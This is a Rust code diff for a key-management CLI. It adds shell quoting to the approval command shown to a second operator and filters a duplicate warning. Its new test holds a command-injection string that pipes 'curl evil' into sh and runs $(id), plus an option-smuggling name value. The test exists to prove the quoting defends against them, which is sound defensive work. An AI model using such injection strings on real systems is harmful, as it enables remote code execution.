@@ -4,7 +4,7 @@ use jiff::Timestamp;
 use serde_json::Value;
 
 use super::print::due;
-use crate::admin::{ActName, KeyReport, VersionReport};
+use crate::admin::{ActName, KeyReport, NOTHING_SIGNS, VersionReport};
 
 /// What is shown before a version signs that verifiers may not know.
 pub(super) fn before_early(report: &KeyReport, version: &VersionReport) -> String {
@@ -103,9 +103,9 @@ pub(super) fn after(act: ActName, kid: &str, report: &KeyReport, now: Timestamp)
         ActName::Destroy | ActName::Release => {}
     }
     // Those two have said already that nothing signs.
-    if !matches!(act, ActName::Retire | ActName::Revoke) {
-        lines.extend(report.problems.iter().map(|problem| format!("! {problem}")));
-    }
+    let said = matches!(act, ActName::Retire | ActName::Revoke);
+    let problems = report.problems.iter().filter(|problem| !(said && *problem == NOTHING_SIGNS));
+    lines.extend(problems.map(|problem| format!("! {problem}")));
     lines
 }
 
@@ -164,6 +164,15 @@ fn who_signs(act: ActName, report: &KeyReport) -> String {
     }
 }
 
+/// One argument for a shell, whatever is in it: the first operator chose the words that the second one runs.
+fn quoted(argument: &str) -> String {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte);
+    match !argument.is_empty() && argument.bytes().all(plain) {
+        true => argument.to_owned(),
+        false => format!("'{}'", argument.replace('\'', r"'\''")),
+    }
+}
+
 /// An act that waits, and the command with which the second operator does it.
 pub(super) fn proposal(proposal: &Value) -> Vec<String> {
     let text = |name: &str| proposal.get(name).and_then(Value::as_str);
@@ -172,20 +181,26 @@ pub(super) fn proposal(proposal: &Value) -> Vec<String> {
     let early = proposal.get("early").and_then(Value::as_bool).unwrap_or_default();
     match (text("backend"), text("key")) {
         (Some(backend), key) => {
-            command += &format!(" {backend}");
-            command += &key.map_or_else(String::new, |key| format!(" --key {key}"));
+            command += &format!(" {}", quoted(backend));
+            command += &key.map_or_else(String::new, |key| format!(" --key={}", quoted(key)));
         }
-        (None, key) => command += &format!(" {}", key.unwrap_or_default()),
+        (None, key) => command += &format!(" {}", quoted(key.unwrap_or_default())),
     }
-    command += &text("name").map_or_else(String::new, |name| format!(" '{name}'"));
     command += if early { " --early" } else { "" };
-    command += &text("kid").map_or_else(String::new, |kid| format!(" --kid {kid}"));
+    command += &text("kid").map_or_else(String::new, |kid| format!(" --kid={}", quoted(kid)));
+    // Last: what begins with a dash is a name all the same.
+    command += &text("name").map_or_else(String::new, |name| {
+        format!(" {}{}", if name.starts_with('-') { "-- " } else { "" }, quoted(name))
+    });
     let uid = proposal.pointer("/by/uid").and_then(Value::as_u64).unwrap_or_default();
     let mut lines = vec![format!("{act}: asked for by uid {uid} at {}", text("at").unwrap_or_default())];
     lines.extend(text("reason").map(|reason| format!("  reason: {reason}")));
     lines.push(format!("  the second operator: {command}"));
     lines.push(format!("  until:               {}", text("until").unwrap_or_default()));
-    lines.push(format!("  to call it off:      jwsd keys withdraw {}", text("id").unwrap_or_default()));
+    lines.push(format!(
+        "  to call it off:      jwsd keys withdraw {}",
+        quoted(text("id").unwrap_or_default())
+    ));
     lines
 }
 
@@ -256,6 +271,10 @@ mod tests {
         let next =
             serde_json::json!([{ "kid": "new", "state": "revoked" }, { "kid": "next", "state": "active" }]);
         assert!(said(ActName::Revoke, &report(next, None)).contains("version next signs now"));
+        let mut behind = report(serde_json::json!([{ "kid": "new", "state": "revoked" }]), None);
+        behind.problems = vec![NOTHING_SIGNS.into(), "files are behind".into()];
+        let text = said(ActName::Revoke, &behind);
+        assert!(text.ends_with("\n! files are behind") && !text.contains(NOTHING_SIGNS), "{text}");
         let active = report(serde_json::json!([{ "kid": "new", "state": "active" }]), None);
         let warning = before_revoke(&active, &active.versions[0]);
         assert!(
@@ -270,11 +289,35 @@ mod tests {
             "id": "1", "act": "activate", "key": "access", "kid": "new", "early": true, "by": { "uid": 1000 },
             "at": "2027-01-15T08:00:00Z", "until": "2027-01-15T08:15:00Z"
         }));
-        assert_eq!(lines[1], "  the second operator: jwsd keys activate access --early --kid new");
+        assert_eq!(lines[1], "  the second operator: jwsd keys activate access --early --kid=new");
         assert!(lines[0].contains("uid 1000") && lines[3].ends_with("withdraw 1"), "{lines:?}");
         let adopt = serde_json::json!({ "act": "adopt", "key": "access", "name": "pkcs11:object=a" });
         assert!(proposal(&adopt)[1].ends_with("jwsd keys adopt access 'pkcs11:object=a'"));
         let release = serde_json::json!({ "act": "release", "backend": "hsm", "key": "access" });
-        assert!(proposal(&release)[1].ends_with("jwsd keys release hsm --key access"));
+        assert!(proposal(&release)[1].ends_with("jwsd keys release hsm --key=access"));
+    }
+
+    #[test]
+    fn nothing_that_one_operator_writes_runs_in_the_shell_of_the_other() {
+        let command = |act: Value| proposal(&act)[1].clone();
+        let nasty = "x'; curl evil|sh; '$(id)`id`";
+        let shown = r"'x'\''; curl evil|sh; '\''$(id)`id`'";
+        let adopt = command(serde_json::json!({ "act": "adopt", "key": "access", "name": nasty }));
+        assert!(adopt.ends_with(&format!("jwsd keys adopt access {shown}")), "{adopt}");
+        let release = command(serde_json::json!({ "act": "release", "backend": nasty, "key": nasty }));
+        assert!(release.ends_with(&format!("jwsd keys release {shown} --key={shown}")), "{release}");
+        let option =
+            command(serde_json::json!({ "act": "adopt", "key": "access", "name": "--socket=/tmp/s" }));
+        assert!(option.ends_with("jwsd keys adopt access -- '--socket=/tmp/s'"), "{option}");
+        let line = as_read_by_a_shell(&adopt);
+        assert_eq!(line, format!("adopt\naccess\n{nasty}\n"), "as a shell reads it");
+    }
+
+    /// What a shell gives `jwsd keys` as arguments, one a line.
+    fn as_read_by_a_shell(line: &str) -> String {
+        let command = line.split_once("jwsd keys ").unwrap().1;
+        let output =
+            std::process::Command::new("sh").args(["-c", &format!("printf '%s\\n' {command}")]).output();
+        String::from_utf8(output.unwrap().stdout).unwrap()
     }
 }
